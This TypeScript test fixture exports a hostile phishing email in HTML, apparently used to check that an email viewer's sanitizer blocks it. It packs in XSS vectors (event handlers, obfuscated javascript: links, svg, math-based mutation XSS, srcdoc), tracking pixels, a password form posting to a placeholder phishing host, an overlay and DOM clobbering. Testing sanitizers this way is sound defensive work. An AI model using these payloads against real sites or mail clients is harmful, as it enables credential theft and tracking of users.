/** A forwarded phishing mail with everything that must never run, load or leak in a page that shows it. */
export const hostileMail = `<html><head>
<style>body, portico-portal { display: none !important } * { background: url(https://tracker.example/style.gif) }</style>
<link rel="stylesheet" href="https://tracker.example/style.css">
<meta http-equiv="refresh" content="0;url=https://phish.example/">
<base href="https://phish.example/">
<script>window.hostileMailRan = 'script'</script>
</head><body onload="window.hostileMailRan = 'onload'">
<p>Is it from you? It looks odd to me.</p>
<blockquote>
<p style="position: fixed; inset: 0; z-index: 99999; background: url('https://tracker.example/bg.png')">Your invoice is overdue.</p>
<p>Pay at once: <a href="javascript:window.hostileMailRan = 'link'">Acme payment page</a> or
<a href=" jAvAsCrIpT&#58;window.hostileMailRan = 'encoded link'">here</a> or
<a href="https://phish.example/pay" target="_top">on our site</a>.</p>
<img src="x" onerror="window.hostileMailRan = 'onerror'">
<img src="https://tracker.example/open.gif?to=grace" width="1" height="1">
<img srcset="https://tracker.example/1x.png 1x, https://tracker.example/2x.png 2x" alt="Acme">
<picture><source srcset="https://tracker.example/source.webp"><img alt=""></picture>
<video poster="https://tracker.example/poster.jpg" src="https://tracker.example/video.mp4" autoplay></video>
<svg onload="window.hostileMailRan = 'svg'"><script>window.hostileMailRan = 'svg script'</script><image href="https://tracker.example/svg.png"/></svg>
<math><mtext></p><img src="x" onerror="window.hostileMailRan = 'math'"></mtext></math>
<iframe src="https://phish.example/frame"></iframe>
<iframe srcdoc="<script>parent.hostileMailRan = 'srcdoc'</script>"></iframe>
<object data="https://phish.example/object"></object><embed src="https://phish.example/embed">
<form action="https://phish.example/steal" method="post"><label>Password <input name="password" type="password" autofocus onfocus="window.hostileMailRan = 'onfocus'"></label><button formaction="javascript:window.hostileMailRan = 'formaction'">Confirm</button></form>
<details open ontoggle="window.hostileMailRan = 'ontoggle'"><summary>Terms</summary>…</details>
<table background="https://tracker.example/table.png"><tr><td id="portico-portal" name="getElementById">Amount due</td><td>EUR 4,180.00</td></tr></table>
<template><img src="x" onerror="window.hostileMailRan = 'template'"></template>
</blockquote>
</body></html>`;
